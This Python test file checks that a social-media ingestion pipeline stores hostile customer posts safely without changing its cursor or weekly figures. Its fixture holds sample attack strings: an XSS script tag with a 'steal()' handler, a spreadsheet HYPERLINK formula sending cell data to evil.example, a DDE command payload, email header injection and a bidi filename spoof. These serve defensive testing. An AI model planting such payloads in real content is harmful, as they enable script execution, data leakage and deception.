"""Hostile post text through the whole pipeline: stored safely, nothing else disturbed.

The platform serves customer posts whose text is HTML/JS, spreadsheet formulas, control
characters, bidi overrides, emoji sequences or a megabyte long. Every post is still stored
(long text cut with the documented marker), the cursor and the weekly figures equal the
fault-free run, and no message fails.
"""

from __future__ import annotations

from tests.faults.harness import START, FakeX

HOSTILE = {
    "1861000000000000100": '@AcmeHelp <script>alert(1)</script><img src=x onerror="steal()">',
    "1861000000000000200": '@AcmeHelp =HYPERLINK("http://evil.example/?"&A1,"click") +cmd|calc!A0',
    "1861000000000000300": "@AcmeHelp \x00\x07\x1b[31m\r\nBcc: victim@example.com \u202eexe.pdf\u202c",
    "1861000000000000500": "@AcmeHelp 👩\u200d👩\u200d👧 🇫🇷 e\u0301 \ufeff\u200b",
    "1861000000000000800": "@AcmeHelp " + "A" * (1024 * 1024),
}


def hostile_platform(texts: dict[str, str]) -> FakeX:
    platform = FakeX()
    for tweet_id, text in texts.items():
        platform.edits[tweet_id] = (START, {"text": text})
    return platform


def test_hostile_customer_posts_are_stored_and_change_no_figure(reference, faulty) -> None:
    result = faulty(hostile_platform(HOSTILE))
    expected = reference()
    assert sorted(result.posts) == sorted(expected.posts)  # every post stored, none twice
    assert result.cursor == expected.cursor
    assert result.figures == expected.figures
    assert result.dead_letters == [] and not any(o == "failed" for _, o in result.polls)
    texts = {i["post_id"]["S"]: i["text"]["S"] for i in result.posts.values()}
    for tweet_id, text in HOSTILE.items():
        if len(text) < 32 * 1024:
            assert texts[tweet_id] == text  # kept verbatim: rendering is where it is defused
        else:
            assert texts[tweet_id].endswith("…[truncated]") and len(texts[tweet_id].encode()) <= 32 * 1024


def test_a_post_with_a_lone_surrogate_does_not_block_the_profile(reference, faulty, request) -> None:
    result = faulty(hostile_platform({"1861000000000000200": "@AcmeHelp cut emoji \ud83d"}))
    expected = reference()
    lost = set(expected.posts) - set(result.posts)
    found = {"posts": len(expected.posts), "lost": len(lost), "extra": 0, "changed": 0}
    request.node.user_properties.append(
        ("fault_diff", {**found, "figures": int(result.figures != expected.figures)})
    )
    assert result.cursor == expected.cursor
    assert sorted(result.posts) == sorted(expected.posts)
